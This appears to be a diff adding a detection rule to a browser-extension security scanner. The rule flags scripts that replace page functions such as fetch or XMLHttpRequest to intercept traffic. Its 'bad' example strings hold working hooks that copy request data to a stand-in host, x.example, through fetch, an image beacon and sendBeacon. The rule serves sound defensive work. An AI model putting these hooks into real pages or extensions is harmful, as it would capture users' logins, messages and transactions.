@@ -1,0 +1,65 @@
+import { apiPath, callsOf, constant, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { defineRule } from '../../rule.ts';
+import { checkScripts, contentExample } from './checkScripts.ts';
+import { runsInPages } from './places.ts';
+import { sendingsOf } from './sendings.ts';
+import { functionOf } from './usage.ts';
+
+const TARGETS = /^(fetch|XMLHttpRequest|WebSocket|XMLHttpRequest\.prototype\.(open|send|setRequestHeader)|navigator\.sendBeacon|HTMLFormElement\.prototype\.submit|WebSocket\.prototype\.send|ethereum|ethereum\.request|solana|crypto\.subtle\.\w+|open|JSON\.parse|localStorage\.setItem|Storage\.prototype\.setItem)$/;
+
+export const patchesPageFunctions = defineRule({
+  id: 'patches-page-functions',
+  title: 'Functions of web pages are replaced to listen in',
+  severity: 'medium',
+  confidence: 'medium',
+  category: 'code',
+  applies: 'extension',
+  cwe: 'CWE-506',
+  references: ['https://attack.mitre.org/techniques/T1056/004/'],
+  why: 'Whoever replaces the function by which a page talks to its server sees and can change everything that is said: log-ins, transfers, messages.',
+  remedy: 'Watch requests with webRequest in the background, or leave them alone.',
+  check: checkScripts(function* ({ script, file, facts, hit }) {
+    if (!runsInPages(facts, file.path)) return;
+    for (const { value, target, body } of patches(script)) {
+      const fn = script.functions[body];
+      if (fn === undefined) continue;
+      // Blockers replace functions too; what tells a listener is that it hands on what it hears.
+      const inside = (pos: number): boolean => pos >= fn.start && pos < fn.end;
+      const out = sendingsOf(script).find((sending) => inside(sending.pos) && sending.kind === 'network' && /^(https?|wss?):\/\/[^*]/.test(sending.to));
+      const told = callsOf(script, 'postMessage', 'parent.postMessage', 'top.postMessage', 'document.dispatchEvent', 'dispatchEvent').some((call) => inside(call.pos));
+      if (out !== undefined) yield hit(value, { severity: 'high', confidence: 'high', evidence: target, message: `What passes through ${target} is sent to ${out.to}.` });
+      else if (told) yield hit(value, { evidence: target, confidence: 'low', message: `What passes through ${target} is handed to other scripts.` });
+      else yield hit(value, { severity: 'low', confidence: 'low', evidence: target });
+    }
+  }),
+  examples: {
+    bad: [
+      contentExample('const real = window.fetch; window.fetch = function (...args) { real("https://x.example/l", { method: "POST", body: JSON.stringify(args) }); const b = new Image(); b.src = "https://x.example/i?d=" + args[0]; return real.apply(this, args); };'),
+      contentExample('const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { navigator.sendBeacon("https://x.example/x", body); return send.call(this, body); };'),
+      contentExample('const real = window.fetch; window.fetch = async function (u, o) { const r = await real(u, o); window.postMessage({ kind: "net", url: u, body: await r.clone().text() }, "*"); return r; };'),
+    ],
+    good: [
+      contentExample('if (!window.fetch) load("polyfill"); const f = fetch; f("https://api.example.com/");'),
+      contentExample('const api = {}; api.fetch = function () { navigator.sendBeacon("https://x.example"); }; class X { open() { window.postMessage("x"); } }'),
+    ],
+  },
+});
+
+function patches(script: ScriptFacts): { value: number; target: string; body: number }[] {
+  const out: { value: number; target: string; body: number }[] = [];
+  const take = (value: number, target: string | undefined, by: number): void => {
+    const body = functionOf(script, by);
+    if (target !== undefined && TARGETS.test(target) && body !== undefined) out.push({ value: value === 0 ? by : value, target, body });
+  };
+  for (const write of writesOf(script, 'fetch', 'XMLHttpRequest', 'WebSocket', 'open', 'send', 'setRequestHeader', 'sendBeacon', 'submit', 'request', 'setItem', 'ethereum', 'solana', 'parse')) {
+    const object = apiPath(script, write.object);
+    if (object === undefined) continue;
+    take(write.value, /^(window|self|globalThis|unsafeWindow|this)$/.test(object) ? write.property : `${object}.${write.property}`, write.value);
+  }
+  for (const call of callsOf(script, 'Object.defineProperty')) {
+    const object = apiPath(script, call.args[0] ?? 0);
+    const name = constant(script, call.args[1] ?? 0);
+    if (object !== undefined && name !== undefined) take(call.value, /^(window|self|globalThis)$/.test(object) ? name : `${object}.${name}`, call.args[2] ?? 0);
+  }
+  return out;
+}
